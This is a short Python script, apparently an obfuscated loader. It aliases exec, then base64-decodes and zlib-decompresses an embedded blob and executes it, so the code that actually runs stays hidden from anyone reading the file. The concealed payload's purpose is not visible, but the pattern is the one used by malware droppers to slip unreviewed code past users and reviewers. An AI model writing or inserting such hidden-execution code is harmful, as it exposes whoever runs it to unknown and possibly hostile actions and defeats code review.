import zlib, base64
e = exec
d = 'eJztxktqwlAAAMB9TyF0EQUx/gWhGxEREfEKNgZNJXlp3mu7KL17V+0pZlZT1W3oUi/EYVe+f5Qxxae/jNoQUz+7p9TGdZ5fq1iE7joqQp1f2ir/Kl/vITxiPhmvVuPxZDKdzmbz+WKxXK7yy2WzKYrttix3u9ttv6+qw+HxOB7r+nQK4XzOhr23GJqX76wITSqblK17MXX9a1WkfoijsvmsutAMBj+Dp2cAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAODfL7malUo='
e(zlib.decompress(base64.b64decode(d)))
